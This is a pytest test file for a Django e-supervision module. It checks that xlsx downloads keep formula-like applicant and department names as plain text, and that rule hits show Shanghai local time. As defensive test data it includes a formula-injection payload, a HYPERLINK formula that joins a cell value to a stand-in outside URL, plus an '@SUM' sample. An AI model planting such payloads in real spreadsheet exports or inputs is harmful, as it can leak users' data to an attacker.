"""Every e-supervision download escapes formula-like text, and every time it shows (page or
xlsx) is China's time."""

import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from oneseal.applicants.actions import register_applicant
from oneseal.esupervision.models import Rule, RuleHit
from oneseal.testing import accepted_case

from .conftest import granted, rollup

pytestmark = pytest.mark.django_db

HOSTILE = '=HYPERLINK("http://x"&B3,"查看")'


def cells(response):
    assert response.status_code == 200, response.content[:300]
    book = load_workbook(io.BytesIO(response.getvalue()))
    return [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]


def test_an_applicant_named_like_a_formula_stays_text_in_the_overdue_download(
    client, overseer, item, clerk
):
    hostile = register_applicant(
        actor=clerk,
        kind="organisation",
        name=HOSTILE,
        number="91350100M000100Y43",
        phone="0952-6012345",
    )
    accepted_case(item, hostile, clerk, "2025-03-03")  # never decided: long past its statutory day
    client.force_login(overseer)
    found = [
        c
        for c in cells(
            client.get(reverse("esupervision:overdue", args=["statutory"]), {"format": "xlsx"})
        )
        if c.value == HOSTILE
    ]
    assert found and all(c.data_type == "s" for c in found)
    assert not [
        c
        for c in cells(
            client.get(reverse("esupervision:overdue", args=["statutory"]), {"format": "xlsx"})
        )
        if c.data_type == "f"
    ]


def test_the_irregular_action_list_shows_the_time_in_shanghai(
    client, overseer, item, applicant, clerk, reviewer, second_reviewer, signatory, recorded_at
):
    recorded_at("2026-03-02 22:33")  # a Monday evening in Pingluo: 14:33 UTC
    granted(
        item,
        applicant,
        clerk,
        reviewer,
        second_reviewer,
        signatory,
        accepted="2026-03-02",
        decided="2026-03-02",
    )
    rollup("2026-03-31")
    hit = RuleHit.objects.get(rule=Rule.OFF_HOURS_DECISION)
    assert hit.at.utcoffset() is None or hit.at.astimezone().tzinfo  # stored as an instant
    client.force_login(overseer)
    page = client.get(reverse("esupervision:hits")).content.decode()
    assert "22:33" in page and "14:33" not in page
    texts = [
        str(c.value) for c in cells(client.get(reverse("esupervision:hits"), {"format": "xlsx"}))
    ]
    assert any("22:33" in t for t in texts) and not any("14:33" in t for t in texts)
    api = client.get("/api/v1/esupervision/rule-hits").json()["results"][0]
    assert api["at"].startswith("2026-03-02T22:33") and api["at"].endswith("+08:00")
    # The sentence says the local time the way Chinese writes a date, everywhere it is shown;
    # the stored `RuleHit.data` keeps the ISO form for programs.
    sentence = "2026年3月2日 22:33（工作时间08:00—18:00以外）作出准予许可"
    assert sentence in page and "2026-03-02 22:33" not in page
    assert sentence in texts and api["detail"] == sentence


def test_the_statistics_and_dashboard_downloads_keep_a_formula_like_department_as_text(
    client, overseer, department, item, applicant, clerk
):
    accepted_case(item, applicant, clerk, "2025-03-03")
    rollup()
    department.short_name = department.name = "@SUM(A1:A9)"
    department.save()
    client.force_login(overseer)
    found = [
        c
        for c in cells(
            client.get(
                reverse("esupervision:statistics"),
                {"by": "department", "from": "2025-03-01", "to": "2025-03-31", "format": "xlsx"},
            )
        )
        if c.value == "@SUM(A1:A9)"
    ]
    assert found and all(c.data_type == "s" and c.quotePrefix for c in found)
    assert not [
        c
        for c in cells(client.get(reverse("esupervision:dashboard"), {"format": "xlsx"}))
        if c.data_type == "f"
    ]
